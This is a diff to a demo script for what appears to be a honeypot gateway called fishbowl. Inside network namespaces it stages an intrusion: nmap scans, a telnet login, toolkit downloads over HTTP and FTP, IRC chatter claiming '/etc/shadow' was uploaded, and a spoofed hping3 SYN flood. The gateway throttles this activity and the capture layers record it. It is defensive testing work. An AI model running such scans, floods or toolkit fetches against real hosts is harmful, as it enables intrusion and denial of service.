@@ -7,10 +7,13 @@
 #   running real services: a web server (80) and a login service (23)
 #
 # The attack: an nmap SYN scan, a login on port 23 and a few commands; then,
-# from the compromised honeypot, 5 downloads from the toolkit server (the
-# limit is 3 new TCP connections an hour), a spoofed SYN flood (hping3) and a
-# ping out (ICMP is blocked).  Then `fishbowl status`, a summary of the
-# capture, and the data directory left in demo/out/.  Run as root (make demo).
+# from the compromised honeypot, a toolkit fetched over HTTP and over FTP
+# (vsftpd), a chat on IRC (ngircd, two channels), more downloads until the
+# limit (5 new TCP connections an hour) blocks the honeypot, a spoofed SYN
+# flood (hping3) and a ping out (ICMP is blocked).  Then `fishbowl status`, a
+# summary of the capture and of what the capture layers recovered
+# (transcripts, keystrokes, IRC lines, carved files and their SHA-256), and
+# the data directory left in demo/out/.  Run as root (make demo).
 set -u
 cd "$(dirname "$0")/.." || exit 1
 ROOT=$PWD
@@ -22,7 +25,7 @@ OUT=$ROOT/demo/out
 die() { echo "demo: $*" >&2; exit 1; }
 [ "$(id -u)" = 0 ] || die "run as root (network namespaces)"
 [ -x "$FISHBOWL" ] || die "no $FISHBOWL (run make first)"
-for t in ip nmap curl hping3 tcpdump python3 socat ss; do
+for t in ip nmap curl hping3 tcpdump python3 socat ss vsftpd ngircd sha256sum; do
 	command -v $t >/dev/null || die "$t is missing (scripts/deps.sh installs it)"
 done
 
@@ -101,14 +104,54 @@ EOF
 fbn_bg "$FBN_HP" python3 -m http.server -d "$W/www" -b 0.0.0.0 80 >/dev/null 2>&1
 fbn_bg "$FBN_HP" socat TCP-LISTEN:23,fork,reuseaddr EXEC:"python3 -u $W/login.py"
 fbn_bg "$FBN_OUT" python3 -m http.server -d "$W/toolkit" -b 0.0.0.0 80 >/dev/null 2>&1
+# The Internet's FTP server (anonymous, the toolkit again) and IRC server.
+mkdir -p "$W/ftp/pub" "$W/vsftpd-empty"
+cp "$W/toolkit/rootkit.tar.gz" "$W/ftp/pub/"
+head -c 30000 /dev/urandom | gzip -c >"$W/ftp/pub/scanner.tgz"
+cat >"$W/vsftpd.conf" <<EOF
+listen=YES
+listen_address=203.0.113.21
+background=NO
+anonymous_enable=YES
+local_enable=NO
+write_enable=NO
+anon_root=$W/ftp
+no_anon_password=YES
+secure_chroot_dir=$W/vsftpd-empty
+seccomp_sandbox=NO
+pasv_enable=YES
+pasv_address=203.0.113.21
+pasv_min_port=40000
+pasv_max_port=40100
+xferlog_enable=NO
+EOF
+chmod 0755 "$W/ftp" "$W/ftp/pub"
+fbn_bg "$FBN_OUT" vsftpd "$W/vsftpd.conf"
+cat >"$W/ngircd.conf" <<EOF
+[Global]
+Name = irc.darknet.test
+Info = a channel for friends
+Listen = 203.0.113.7
+Ports = 6667
+PidFile = $W/ngircd.pid
+MotdPhrase = welcome, friends
+[Options]
+DNS = no
+Ident = no
+PAM = no
+EOF
+fbn_bg "$FBN_OUT" sh -c "exec ngircd -n -f '$W/ngircd.conf' >'$W/ngircd.log' 2>&1"
 for p in 80 23; do fbn_wait_port "$FBN_HP" $p || die "honeypot service $p did not start"; done
 fbn_wait_port "$FBN_OUT" 80 || die "toolkit server did not start"
-say "honeypot services: http (80), login (23); outside: toolkit http server (80)"
+fbn_wait_port "$FBN_OUT" 21 || die "FTP server did not start"
+fbn_wait_port "$FBN_OUT" 6667 || die "IRC server did not start"
+say "honeypot services: http (80), login (23)"
+say "outside: toolkit web server 203.0.113.80, FTP server 203.0.113.21, IRC server 203.0.113.7"
 
 step "2. fishbowl starts as the gateway"
 fbn_conf demo <<'EOF'
 [control]
-tcp = 3/hour
+tcp = 5/hour
 udp = 3/hour
 icmp = block
 other = block
@@ -124,31 +167,71 @@ inO nmap -n -Pn -sS -T4 --max-retries 1 -p 1-1024 $HP 2>&1 | grep -E '^[0-9]+/tc
 step "4. the attacker logs in on port 23 and looks around"
 inO python3 "$W/attacker.py" $HP
 
-step "5. the intruder, on the honeypot, fetches a toolkit 5 times (limit: 3 new TCP/hour)"
-for i in 1 2 3 4 5; do
-	if inH curl -s -m 3 -o /dev/null -w '%{http_code} %{size_download}' \
-	    http://203.0.113.80/rootkit.tar.gz >"$W/curl.$i" 2>/dev/null; then
-		say "download $i: HTTP $(cut -d' ' -f1 "$W/curl.$i"), $(cut -d' ' -f2 "$W/curl.$i") bytes"
+step "5. the intruder, on the honeypot, fetches a toolkit over HTTP and FTP"
+fetch() {	# label url
+	if inH curl -s -m 3 -o /dev/null -w '%{response_code} %{size_download}' "$2" \
+	    >"$W/curl.out" 2>/dev/null; then
+		say "$1: code $(cut -d' ' -f1 "$W/curl.out"), $(cut -d' ' -f2 "$W/curl.out") bytes"
 	else
-		say "download $i: failed (connection timed out)"
+		say "$1: failed (connection timed out)"
 	fi
+}
+fetch "http://203.0.113.80/rootkit.tar.gz" http://203.0.113.80/rootkit.tar.gz
+fetch "ftp://203.0.113.21/pub/scanner.tgz (control + data connection)" \
+    ftp://203.0.113.21/pub/scanner.tgz
+say "SHA-256 of what the servers hold:"
+(cd "$W/toolkit" && sha256sum rootkit.tar.gz; cd "$W/ftp/pub" && sha256sum scanner.tgz) |
+    sed 's/^/     /'
+
+step "6. the intruder joins IRC (#ops, #loot) and reports in"
+cat >"$W/irc.py" <<'EOF'
+import socket, sys, time
+s = socket.create_connection(("203.0.113.7", 6667), timeout=5)
+buf = b""
+def wait_for(what):
+    global buf
+    while what not in buf:
+        d = s.recv(4096)
+        if not d:
+            return
+        buf += d
+def send(line, wait=None):
+    s.sendall(line.encode() + b"\r\n")
+    if wait:
+        wait_for(wait.encode())
+send("NICK r00t")
+send("USER r00t 0 * :owned", " 001 ")
+send("JOIN #ops", "JOIN :#ops")
+send("JOIN #loot", "JOIN :#loot")
+send("PRIVMSG #ops :new box up: acme-web 10.99.0.130, root via telnet")
+send("PRIVMSG #loot :\x01ACTION uploads /etc/shadow\x01")
+send("TOPIC #ops :acme-web is ours")
+send("QUIT :brb")
+time.sleep(0.5)
+s.close()
+EOF
+if inH python3 "$W/irc.py"; then say "IRC: joined #ops and #loot, 2 messages, a topic, quit"; else say "IRC failed"; fi
+
+step "7. more downloads: the limit (5 new TCP connections an hour) blocks the honeypot"
+for i in 1 2 3; do
+	fetch "download $i" http://203.0.113.80/rootkit.tar.gz
 done
 
-step "6. the intruder floods a victim with spoofed SYNs (hping3 -a 198.51.100.7, 500 packets)"
+step "8. the intruder floods a victim with spoofed SYNs (hping3 -a 198.51.100.7, 500 packets)"
 fbn_tcpdump "$FBN_OUT" o0 "$W/victim.pcap" 'host 198.51.100.7' || true
 inH hping3 -q -S -a 198.51.100.7 -p 80 -c 500 -i u1000 203.0.113.99 >/dev/null 2>&1
 sleep 0.3
 fbn_tcpdump_stop
 say "frames from 198.51.100.7 seen on the Internet side: $(fbn_count "$W/victim.pcap")"
 
-step "7. the intruder pings out (icmp = block)"
+step "9. the intruder pings out (icmp = block)"
 say "sent, answered: $(inH $T ping 203.0.113.80 3 0.2 0.5)"
 
-step "8. fishbowl status"
+step "10. fishbowl status"
 "$FISHBOWL" status -s "$FBN_SOCK" | sed 's/^/   /'
 fbn_stop || say "(fishbowl exited non-zero: see $FBN_FB_LOG)"
 
-step "9. what was captured and what was blocked"
+step "11. what was captured and what was blocked"
 rm -rf "$OUT"
 mkdir -p "$OUT"
 cp -r "$FBN_DATA" "$OUT/data"
@@ -197,4 +280,52 @@ EOF
 say ""
 say "everything is in demo/out/: data/ (pcap, conn.jsonl, alerts.jsonl, state), fishbowl.conf, fishbowl.log"
 say "try: tcpdump -n -r demo/out/data/*/packets/00001.pcap 'tcp port 23' -A | less"
-step "10. cleaning up the namespaces"
+step "12. what the capture layers recovered"
+python3 - "$OUT/data" <<'EOF'
+import glob, json, os, sys
+d = sys.argv[1]
+def rd(name):
+    out = []
+    for p in sorted(glob.glob(d + "/????-??-??/" + name)):
+        for l in open(p, errors="replace"):
+            try:
+                out.append(json.loads(l))
+            except ValueError:
+                pass
+    return out
+p = lambda s: print("   " + s)
+S = rd("sessions.jsonl")
+p("sessions: %d transcripts in sessions/ (protocol guessed from content)" % len(S))
+for s in S:
+    p("  %-7s %-8s %s:%s -> %s:%s  %d/%d bytes  %s" % (s.get("protocol"), s.get("dir"),
+      s.get("src"), s.get("sport"), s.get("dst"), s.get("dport"),
+      s.get("bytes_orig", 0), s.get("bytes_resp", 0), s.get("transcript") or ""))
+login = [s for s in S if s.get("dport") == 23 and s.get("transcript")]
+if login:
+    p("the login session's transcript (first lines):")
+    with open(os.path.join(d, login[0]["transcript"]), errors="replace") as f:
+        for i, l in enumerate(f):
+            if i >= 14:
+                break
+            p("  | " + l.rstrip("\n"))
+K = rd("keystrokes.jsonl")
+p("keystrokes: %d lines typed" % len(K))
+for k in K:
+    p("  %s %-7s %s" % (k.get("ts", "")[11:19], k.get("source"), k.get("line")))
+I = rd("irc.jsonl")
+p("IRC: %d messages" % len(I))
+for m in I:
+    if m.get("command") in ("NICK", "JOIN", "PRIVMSG", "TOPIC", "QUIT") and m.get("dir", "").startswith("from"):
+        p("  %s %-7s %-6s %s %s" % (m.get("ts", "")[11:19], m.get("command"), m.get("nick", ""),
+          m.get("target", m.get("channel", m.get("new_nick", ""))),
+          m.get("text", m.get("ctcp", ""))))
+F = rd("files.jsonl")
+p("files carved into files/: %d" % len(F))
+for f in F:
+    p("  %s %8s bytes %-24s %s %s" % (f.get("sha256"), f.get("size"), f.get("mime", ""),
+      f.get("name", f.get("url", "")), "complete" if f.get("complete") else "truncated"))
+EOF
+say ""
+say "compare the SHA-256 above with those the servers hold (step 5)"
+
+step "13. cleaning up the namespaces"
